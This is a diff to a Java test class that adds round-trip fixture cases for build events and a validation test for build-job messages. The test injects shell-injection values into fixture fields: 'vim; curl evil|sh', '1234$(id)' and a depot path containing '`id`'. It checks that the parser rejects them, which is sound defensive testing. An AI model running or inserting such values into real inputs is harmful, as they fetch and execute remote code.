@@ -21,7 +21,12 @@ class ContractRoundTripTest {
     "delete-workspace.json, io.a4c.events.HostCommand, io.a4c.events.DeleteWorkspace",
     "heartbeat.json, io.a4c.events.HostEvent, io.a4c.events.Heartbeat",
     "workspace-status.json, io.a4c.events.HostEvent, io.a4c.events.WorkspaceStatus",
-    "host-inventory.json, io.a4c.events.HostEvent, io.a4c.events.HostInventory"
+    "host-inventory.json, io.a4c.events.HostEvent, io.a4c.events.HostInventory",
+    "build-ended.json, io.a4c.events.HostEvent, io.a4c.events.BuildEnded",
+    "builder-status.json, io.a4c.events.HostEvent, io.a4c.events.BuilderStatus",
+    "build-job.json, io.a4c.events.BuildMessage, io.a4c.events.BuildJob",
+    "build-claim.json, io.a4c.events.BuildClaim, io.a4c.events.BuildClaim",
+    "build-claim-answer.json, io.a4c.events.BuildClaimAnswer, io.a4c.events.BuildClaimAnswer"
   })
   void readsTheFixtureAsItsTypeAndWritesItBackUnchanged(String file, Class<?> base, Class<?> type)
       throws IOException {
@@ -49,6 +54,18 @@ class ContractRoundTripTest {
 
     assertThatThrownBy(() -> json.readValue(hostile, HostCommand.class))
         .hasMessageContaining("workspaceId is missing or malformed");
+  }
+
+  @Test
+  void refusesABuildJobWhoseToolOrChangeCarriesShellCharacters() throws IOException {
+    String job = new String(read("build-job.json"));
+
+    assertThatThrownBy(() -> json.readValue(job.replace("\"vim\"", "\"vim; curl evil|sh\""), BuildMessage.class))
+        .hasMessageContaining("tools is missing or malformed");
+    assertThatThrownBy(() -> json.readValue(job.replace("\"1234\"", "\"1234$(id)\""), BuildMessage.class))
+        .hasMessageContaining("change is missing or malformed");
+    assertThatThrownBy(() -> json.readValue(job.replace("//depot/kernel/main/...", "//depot/`id`/..."), BuildMessage.class))
+        .hasMessageContaining("source.depotPath is missing or malformed");
   }
 
   private static byte[] read(String file) throws IOException {
